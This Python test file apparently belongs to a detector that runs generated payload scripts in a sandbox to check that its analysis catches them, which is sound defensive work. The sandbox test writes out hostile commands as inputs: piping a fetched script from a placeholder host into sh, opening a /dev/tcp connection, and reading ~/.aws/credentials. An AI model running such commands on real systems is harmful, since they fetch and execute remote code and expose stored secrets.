"""The real interpreters against the analysis: a seeded share of cases for each language.

``FLYCATCHER_PAYLOAD_CASES`` sets how many cases each language gets (60), ``FLYCATCHER_ORACLE_SEED`` the seed.
"""

from __future__ import annotations

import os
import shutil

import pytest

from tests.oracle_payload.constructs import all_grammars
from tests.oracle_payload.grammar import TELLS, Grammar, cases
from tests.oracle_payload.harness import outcomes
from tests.oracle_payload.sandbox import DECOY, FOLDER, Sandbox, environment

CASES = int(os.environ.get("FLYCATCHER_PAYLOAD_CASES", "60"))
SEED = int(os.environ.get("FLYCATCHER_ORACLE_SEED", "1"))
GRAMMARS = [grammar for grammar in all_grammars() if shutil.which(grammar.program[0])]


@pytest.mark.parametrize("grammar", GRAMMARS, ids=lambda grammar: grammar.id)
def test_what_a_text_really_does_is_told(grammar: Grammar) -> None:
    found = list(outcomes(grammar, CASES, SEED))
    missed = [str(outcome) for outcome in found if outcome.missed]
    assert not missed, f"{len(missed)} of {len(found)} cases missed\n" + "\n".join(missed)
    assert sum(outcome.ran for outcome in found) > len(found) // 2, "most texts did nothing: the grammar proves little"


@pytest.mark.parametrize("grammar", GRAMMARS, ids=lambda grammar: grammar.id)
def test_a_language_has_every_kind_of_sink_and_many_constructs(grammar: Grammar) -> None:
    kinds = {sink.kind for sink in grammar.sinks}
    assert kinds >= set(TELLS) - ({"connect"} if grammar.id == "lua" else set())  # its sockets are no part of Lua
    assert len(grammar.constructs) >= 80
    assert next(iter(grammar.encodings)) == "plain"


def test_the_same_seed_makes_the_same_texts() -> None:
    grammar = GRAMMARS[0]
    assert [case.text(1) for case in cases(grammar, 40, 7)] == [case.text(1) for case in cases(grammar, 40, 7)]
    assert [case.text(1) for case in cases(grammar, 40, 7)] != [case.text(1) for case in cases(grammar, 40, 8)]


def test_the_sandbox_tells_what_ran() -> None:
    with Sandbox(FOLDER) as sandbox:
        port = sandbox.listener.port
        assert sandbox.ran(["sh", "-c", "curl http://files.example/x|sh"], {}, "spawn")
        assert not sandbox.ran(["sh", "-c", "curl http://files.example/x"], {}, "spawn")
        assert sandbox.ran(["bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}"], {}, "connect")
        assert not sandbox.ran(["true"], {}, "connect")
        assert sandbox.ran(["sh", "-c", "cat ~/.aws/credentials"], {}, "credentials")
        assert not sandbox.ran(["echo", DECOY[:8]], {}, "credentials")


def test_what_a_text_leaves_behind_is_gone_after_its_time(tmp_path, monkeypatch):
    monkeypatch.setattr("tests.oracle_payload.sandbox.SECONDS", 1)
    text = (
        "import os,time\n"
        "for _ in range(3):\n"
        " if not os.fork(): os.setsid(); open(os.environ['PIDS'],'a').write(f'{os.getpid()}\\n'); break\n"
        "time.sleep(60)"
    )
    pids = tmp_path / "pids"
    with Sandbox(tmp_path) as sandbox:
        assert not sandbox.ran(["python3", "-c", text], {"PIDS": str(pids)}, "write")
        left = [pid for pid in map(int, pids.read_text().split()) if environment(pid)]
    assert len(pids.read_text().split()) == 3
    assert left == []
